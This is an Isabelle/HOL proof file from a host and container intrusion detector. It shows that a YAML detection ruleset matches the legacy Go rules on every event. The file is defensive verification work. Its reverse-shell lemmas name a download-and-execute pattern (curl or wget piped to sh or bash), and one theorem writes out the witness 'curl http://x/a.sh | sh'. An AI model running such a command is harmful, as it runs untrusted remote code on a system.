(* ===== verification/RulesParity.thy ===== *)
theory RulesParity
  imports DefaultRules LegacyRules
begin

text \<open>
  The translation of the hard-coded detections to YAML is faithful: on every event, in both scopes
  and for every classifier, the compiled default ruleset and the legacy rules yield the same findings
  in the same order, which generalises the corpus of \<open>parity_test.go\<close> to all inputs.
\<close>

section \<open>What is compared\<close>

text \<open>
  A finding's rule with its MITRE data and tags, the severity, and the reason; the reason of
  \<open>reverse_shell\<close> is left out, because the YAML rule has one text for the two of the Go rule.
\<close>

type_synonym verdict = "string \<times> string \<times> string \<times> string list \<times> severity \<times> string"

definition shown_reason :: "string \<Rightarrow> string \<Rightarrow> string" where
  "shown_reason rule reason = (if rule = ''reverse_shell'' then [] else reason)"

definition engine_verdict :: "result \<Rightarrow> verdict" where
  "engine_verdict r = (r_RuleID r, r_Tactic r, r_Technique r, r_Tags r, r_Severity r,
     shown_reason (r_RuleID r) (r_Reason r))"

definition legacy_verdict :: "legacy_rule \<times> severity \<times> string \<Rightarrow> verdict" where
  "legacy_verdict x = (case x of (r, sev, reason) \<Rightarrow>
     (lr_ID r, lr_Tactic r, lr_Technique r, lr_Tags r, sev, shown_reason (lr_ID r) reason))"

text \<open>One rule of each kind agrees when it gives the same verdict on every event.\<close>

definition same_rule :: "compiled_rule \<Rightarrow> legacy_rule \<Rightarrow> bool" where
  "same_rule cr lr \<longleftrightarrow> (\<forall>e c s. s \<in> {ScopeContainer, ScopeHost} \<longrightarrow>
     map_option engine_verdict (finding (e, lineageAdapter c, s) cr) =
     map_option legacy_verdict (legacy_finding e c s lr))"

lemma same_ruleI:
  assumes "\<And>e c. map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) cr) =
      map_option legacy_verdict (legacy_finding e c ScopeHost lr)"
    and "\<And>e c. map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) cr) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer lr)"
  shows "same_rule cr lr"
  using assms by (auto simp: same_rule_def)

section \<open>The vocabulary of conditions on the detector's side\<close>

definition to_Lineage :: "lineage \<Rightarrow> Lineage" where
  "to_Lineage l = (case l of lineageNetwork \<Rightarrow> LineageNetwork | lineageInteractive \<Rightarrow> LineageInteractive
     | lineageTrusted \<Rightarrow> LineageTrusted | lineageUnknown \<Rightarrow> LineageUnknown)"

lemma to_Lineage_simps [simp]:
  "to_Lineage lineageNetwork = LineageNetwork" "to_Lineage lineageInteractive = LineageInteractive"
  "to_Lineage lineageTrusted = LineageTrusted" "to_Lineage lineageUnknown = LineageUnknown"
  by (simp_all add: to_Lineage_def)

lemma adapter_simps [simp]:
  "v_lineage (e, lineageAdapter c, ScopeHost) = to_Lineage (classify c (e_Ancestry e) ScopeHost)"
  "v_lineage (e, lineageAdapter c, ScopeContainer) = to_Lineage (classify c (e_Ancestry e) ScopeContainer)"
  "p_TrustedWriter (lineageAdapter c) = trustedWriter c"
  "p_NetworkParent (lineageAdapter c) = networkParent c"
  "p_IsDockerClient (lineageAdapter c) = isDockerClient c"
  by (simp_all add: v_lineage_def lineageAdapter_def adapter_Classify_def Let_def scope_defs to_Lineage_def)

lemma scope_simps [simp]:
  "ScopeAll AND ScopeHost \<noteq> 0" "ScopeAll AND ScopeContainer \<noteq> 0"
  "ScopeHost AND ScopeHost \<noteq> 0" "ScopeContainer AND ScopeContainer \<noteq> 0"
  "ScopeHost AND ScopeContainer = 0" "ScopeContainer AND ScopeHost = 0"
  "ScopeHost \<noteq> 0" "ScopeContainer \<noteq> 0"
  "ScopeContainer \<noteq> ScopeHost" "ScopeHost \<noteq> ScopeContainer"
  "scopeName ScopeHost = ''host''" "scopeName ScopeContainer = ''container''"
  by (simp_all add: scope_defs scopeName_def)

lemma event_type_neq [simp]:
  "EventExecve \<noteq> EventOpen" "EventOpen \<noteq> EventExecve"
  by (simp_all add: event_type_defs)

lemma exec_base_execBinary: "exec_base e = execBinary e"
  by (simp add: exec_base_def execBinary_def)

lemma to_lower_execBinary [simp]: "to_lower (execBinary e) = execBinary e"
  by (simp add: execBinary_def)

lemma writeFlagMask_eq: "re_writeFlagMask = writeFlagMask" "re_oTRUNC = oTRUNC"
  by (simp_all add: re_writeFlagMask_def writeFlagMask_def re_oWRONLY_def re_oRDWR_def re_oCREAT_def
      re_oTRUNC_def re_oAPPEND_def oWRONLY_def oRDWR_def oCREAT_def oTRUNC_def oAPPEND_def)

lemma reverse_shell_legacy:
  "reverseShellMatch cmd \<longleftrightarrow> find (\<lambda>sig. contains (to_lower cmd) sig) legacySigs \<noteq> None \<or>
     (contains (to_lower cmd) ''curl '' \<or> contains (to_lower cmd) ''wget '') \<and>
     list_ex (\<lambda>p. contains (to_lower cmd) p) [''|sh'', ''| sh'', ''|bash'', ''| bash'']"
  by (auto simp: reverseShellMatch_def reverseShellSigs_def legacySigs_def Let_def)

lemmas parity_view = str_val_def int_val_def bool_val_def v_chain_def writerChain_def
  exec_base_execBinary writeFlagMask_eq type_name_iff lineage_string_iff

lemmas parity_unfold = finding_def rule_outcome_def arm_choice_def arm_applies_def mk_result_def
  engine_verdict_def legacy_verdict_def legacy_finding_def shown_reason_def parity_view severity_defs Let_def hasAnyPrefix_def containsAny_def
  list_ex_iff det_processName_def processName_def

section \<open>Rule by rule\<close>

lemma same_kernel_module_load: "same_rule rule_kernel_module_load ruleKernelModuleLoad"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_kernel_module_load) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleKernelModuleLoad)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_kernel_module_load_def ruleKernelModuleLoad_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_kernel_module_load) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleKernelModuleLoad)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_kernel_module_load_def ruleKernelModuleLoad_def parity_unfold)
qed

lemma same_bpf_prog_load: "same_rule rule_bpf_prog_load ruleBPFProgLoad"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_bpf_prog_load) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleBPFProgLoad)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_bpf_prog_load_def ruleBPFProgLoad_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_bpf_prog_load) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleBPFProgLoad)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_bpf_prog_load_def ruleBPFProgLoad_def parity_unfold)
qed

lemma reverse_shell_hit:
  "(\<exists>h. lr_Match ruleReverseShell e c s = Some h) \<longleftrightarrow>
     e_Type e = EventExecve \<and> e_CmdLine e \<noteq> [] \<and> reverseShellMatch (e_CmdLine e)"
  by (auto simp: ruleReverseShell_def reverse_shell_legacy Let_def split: option.splits)

lemma reverse_shell_hit_severity: "lr_Match ruleReverseShell e c s = Some h \<Longrightarrow> h_Severity h = []"
  by (auto simp: ruleReverseShell_def Let_def split: if_splits option.splits)

lemma same_reverse_shell: "same_rule rule_reverse_shell ruleReverseShell"
proof (rule same_ruleI)
  have meta: "lr_ID ruleReverseShell = ''reverse_shell''" "lr_Scope ruleReverseShell = ScopeAll"
    "lr_Tactic ruleReverseShell = ''Execution''" "lr_Technique ruleReverseShell = ''T1059''"
    "lr_Tags ruleReverseShell = [''reverse-shell'', ''c2'']" "lr_Severity ruleReverseShell = ''critical''"
    by (simp_all add: ruleReverseShell_def severity_defs)
  fix e c
  have legacy: "map_option legacy_verdict (legacy_finding e c s ruleReverseShell) =
      (if e_Type e = EventExecve \<and> e_CmdLine e \<noteq> [] \<and> reverseShellMatch (e_CmdLine e)
       then Some (''reverse_shell'', ''Execution'', ''T1059'', [''reverse-shell'', ''c2''], ''critical'', [])
       else None)" if "ScopeAll AND s \<noteq> 0" for s
    using that reverse_shell_hit_severity [of e c s] unfolding reverse_shell_hit [symmetric, of e c s]
    by (auto simp: legacy_finding_def legacy_verdict_def meta shown_reason_def split: option.split)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_reverse_shell) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleReverseShell)"
    by (subst legacy) (simp_all add: rule_reverse_shell_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_reverse_shell) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleReverseShell)"
    by (subst legacy) (simp_all add: rule_reverse_shell_def parity_unfold)
qed

lemma same_process_injection: "same_rule rule_process_injection ruleProcessInjection"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_process_injection) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleProcessInjection)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_process_injection_def ruleProcessInjection_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_process_injection) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleProcessInjection)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_process_injection_def ruleProcessInjection_def parity_unfold)
qed

lemma same_persistence: "same_rule rule_persistence rulePersistence"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_persistence) =
      map_option legacy_verdict (legacy_finding e c ScopeHost rulePersistence)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_persistence_def rulePersistence_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_persistence) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer rulePersistence)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_persistence_def rulePersistence_def parity_unfold)
qed

lemma same_shell_in_container: "same_rule rule_shell_in_container ruleShellInContainer"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_shell_in_container) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleShellInContainer)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_shell_in_container_def ruleShellInContainer_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_shell_in_container) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleShellInContainer)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_shell_in_container_def ruleShellInContainer_def parity_unfold)
qed

lemma same_privilege_escalation: "same_rule rule_privilege_escalation rulePrivilegedProcess"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_privilege_escalation) =
      map_option legacy_verdict (legacy_finding e c ScopeHost rulePrivilegedProcess)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_privilege_escalation_def rulePrivilegedProcess_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_privilege_escalation) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer rulePrivilegedProcess)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_privilege_escalation_def rulePrivilegedProcess_def parity_unfold)
qed

lemma same_network_tool: "same_rule rule_network_tool ruleNetworkTool"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_network_tool) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleNetworkTool)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_network_tool_def ruleNetworkTool_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_network_tool) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleNetworkTool)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_network_tool_def ruleNetworkTool_def parity_unfold)
qed

lemma same_container_drift: "same_rule rule_container_drift ruleContainerDrift"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_container_drift) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleContainerDrift)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_container_drift_def ruleContainerDrift_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_container_drift) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleContainerDrift)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_container_drift_def ruleContainerDrift_def parity_unfold)
qed

lemma same_package_manager: "same_rule rule_package_manager rulePackageManager"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_package_manager) =
      map_option legacy_verdict (legacy_finding e c ScopeHost rulePackageManager)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_package_manager_def rulePackageManager_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_package_manager) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer rulePackageManager)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_package_manager_def rulePackageManager_def parity_unfold)
qed

lemma same_sensitive_file: "same_rule rule_sensitive_file ruleSensitiveFileAccess"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_sensitive_file) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleSensitiveFileAccess)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_sensitive_file_def ruleSensitiveFileAccess_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_sensitive_file) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleSensitiveFileAccess)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_sensitive_file_def ruleSensitiveFileAccess_def parity_unfold)
qed

lemma same_credential_file: "same_rule rule_credential_file ruleCredentialFileAccess"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_credential_file) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleCredentialFileAccess)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_credential_file_def ruleCredentialFileAccess_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_credential_file) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleCredentialFileAccess)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_credential_file_def ruleCredentialFileAccess_def parity_unfold)
qed

lemma same_host_user_manipulation: "same_rule rule_host_user_manipulation ruleHostUserManipulation"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_host_user_manipulation) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleHostUserManipulation)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_host_user_manipulation_def ruleHostUserManipulation_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_host_user_manipulation) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleHostUserManipulation)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_host_user_manipulation_def ruleHostUserManipulation_def parity_unfold)
qed

lemma same_host_log_tampering: "same_rule rule_host_log_tampering ruleHostLogTampering"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_host_log_tampering) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleHostLogTampering)"
  proof (cases "e_Type e = EventExecve")
    case True
    then show ?thesis
      by (simp add: rule_host_log_tampering_def ruleHostLogTampering_def parity_unfold) blast
  next
    case no_exec: False
    show ?thesis
    proof (cases "e_Type e = EventOpen \<and> e_Arg1 e AND writeFlagMask \<noteq> 0")
      case True
      with no_exec show ?thesis
        by (simp add: rule_host_log_tampering_def ruleHostLogTampering_def parity_unfold) blast
    next
      case False
      with no_exec show ?thesis
        by (auto simp: rule_host_log_tampering_def ruleHostLogTampering_def parity_unfold)
    qed
  qed
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_host_log_tampering) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleHostLogTampering)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_host_log_tampering_def ruleHostLogTampering_def parity_unfold)
qed

lemma same_host_docker_sock: "same_rule rule_host_docker_sock ruleHostDockerSock"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_host_docker_sock) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleHostDockerSock)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_host_docker_sock_def ruleHostDockerSock_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_host_docker_sock) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleHostDockerSock)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_host_docker_sock_def ruleHostDockerSock_def parity_unfold)
qed

lemma same_host_tmp_exec: "same_rule rule_host_tmp_exec ruleHostTmpExec"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_host_tmp_exec) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleHostTmpExec)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_host_tmp_exec_def ruleHostTmpExec_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_host_tmp_exec) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleHostTmpExec)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_host_tmp_exec_def ruleHostTmpExec_def parity_unfold)
qed

lemma same_host_shell_from_service: "same_rule rule_host_shell_from_service ruleHostShellFromService"
proof (rule same_ruleI)
  fix e c
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeHost) rule_host_shell_from_service) =
      map_option legacy_verdict (legacy_finding e c ScopeHost ruleHostShellFromService)"
    by (cases "classify c (e_Ancestry e) ScopeHost")
       (simp_all add: rule_host_shell_from_service_def ruleHostShellFromService_def parity_unfold)
  show "map_option engine_verdict (finding (e, lineageAdapter c, ScopeContainer) rule_host_shell_from_service) =
      map_option legacy_verdict (legacy_finding e c ScopeContainer ruleHostShellFromService)"
    by (cases "classify c (e_Ancestry e) ScopeContainer")
       (simp_all add: rule_host_shell_from_service_def ruleHostShellFromService_def parity_unfold)
qed

section \<open>All rules\<close>

lemma all_rules_same: "list_all2 same_rule default_rules defaultRules"
  by (simp add: default_rules_def defaultRules_def same_kernel_module_load same_bpf_prog_load
      same_reverse_shell same_process_injection same_persistence same_shell_in_container
      same_privilege_escalation same_network_tool same_container_drift same_package_manager
      same_sensitive_file same_credential_file same_host_user_manipulation same_host_log_tampering
      same_host_docker_sock same_host_tmp_exec same_host_shell_from_service)

lemma same_rules_findings:
  assumes "list_all2 same_rule crs lrs" and "s \<in> {ScopeContainer, ScopeHost}"
  shows "map engine_verdict (findings (e, lineageAdapter c, s) crs) =
    map legacy_verdict (legacyFindings lrs e c s)"
  using assms(1)
proof (induction rule: list_all2_induct)
  case (Cons cr crs lr lrs)
  have "map_option engine_verdict (finding (e, lineageAdapter c, s) cr) =
      map_option legacy_verdict (legacy_finding e c s lr)"
    using Cons.hyps(1) assms(2) unfolding same_rule_def by blast
  with Cons.IH show ?case
    by (cases "finding (e, lineageAdapter c, s) cr"; cases "legacy_finding e c s lr")
       (simp_all add: findings_def legacyFindings_def List.map_filter_simps)
qed (simp add: findings_def legacyFindings_def List.map_filter_simps)

text \<open>The scope of an event, as \<open>Check\<close> and the parity test choose it.\<close>

definition event_scope :: "event \<Rightarrow> scope" where
  "event_scope e = (if IsHost e then ScopeHost else ScopeContainer)"

section \<open>Properties\<close>

text \<open>
  C1. The embedded YAML ruleset loads and compiles, and on every event, with every classifier, the
  engine reports exactly the findings of the hard-coded Go rules it replaces: the same rules in the
  same order with the same severity, MITRE tactic and technique, tags and reason (the reason of
  \<open>reverse_shell\<close> excepted).
\<close>

theorem engine_matches_legacy:
  "\<exists>rules. load_ruleset default_file readDir readFile decode [] [] = Inr rules \<and>
     map engine_verdict (engine_Match rules e (lineageAdapter c) (event_scope e)) =
     map legacy_verdict (legacyFindings defaultRules e c (event_scope e))"
proof (intro exI conjI)
  show "load_ruleset default_file readDir readFile decode [] [] = Inr default_rules"
    by (simp add: load_ruleset_def overlays_def default_ids_unique default_file_compiles)
  show "map engine_verdict (engine_Match default_rules e (lineageAdapter c) (event_scope e)) =
      map legacy_verdict (legacyFindings defaultRules e c (event_scope e))"
    by (simp add: Match_findings same_rules_findings [OF all_rules_same] event_scope_def)
qed

text \<open>
  The one divergence: for a download piped to a shell, the Go rule says so while the YAML rule
  reports its general reason.
\<close>

theorem reverse_shell_reason_differs:
  assumes "e_Type e = EventExecve" and "find (\<lambda>sig. contains (to_lower (e_CmdLine e)) sig) legacySigs = None"
    and "reverseShellMatch (e_CmdLine e)"
  shows "\<exists>x h. finding (e, lineageAdapter c, event_scope e) rule_reverse_shell = Some x \<and>
    lr_Match ruleReverseShell e c (event_scope e) = Some h \<and>
    r_Reason x = ''reverse-shell pattern detected in command line'' \<and>
    h_Reason h = ''remote payload piped to shell (download-and-execute)''"
proof -
  have ne: "e_CmdLine e \<noteq> []" using assms(3) by (auto simp: reverseShellMatch_def reverseShellSigs_def)
  have g: "eval_pred (cr_gate rule_reverse_shell) (e, lineageAdapter c, event_scope e)"
    using assms ne by (simp add: rule_reverse_shell_def parity_view)
  have "ScopeAll AND event_scope e \<noteq> 0" by (simp add: event_scope_def)
  with g have "\<exists>x. finding (e, lineageAdapter c, event_scope e) rule_reverse_shell = Some x \<and>
      r_Reason x = ''reverse-shell pattern detected in command line''"
    by (simp add: finding_def rule_outcome_def mk_result_def rule_reverse_shell_def)
  moreover have "\<exists>h. lr_Match ruleReverseShell e c (event_scope e) = Some h \<and>
      h_Reason h = ''remote payload piped to shell (download-and-execute)''"
    using assms ne by (auto simp: ruleReverseShell_def reverse_shell_legacy Let_def)
  ultimately show ?thesis by blast
qed

theorem reverse_shell_reason_differs_witness:
  "let e = empty_event\<lparr>e_Type := EventExecve, e_CmdLine := ''curl http://x/a.sh | sh''\<rparr>
   in \<exists>x h. finding (e, lineageAdapter (newClassifier None), event_scope e) rule_reverse_shell = Some x \<and>
    lr_Match ruleReverseShell e (newClassifier None) (event_scope e) = Some h \<and>
    r_Reason x = ''reverse-shell pattern detected in command line'' \<and>
    h_Reason h = ''remote payload piped to shell (download-and-execute)''"
  unfolding Let_def by (rule reverse_shell_reason_differs) code_simp+

end
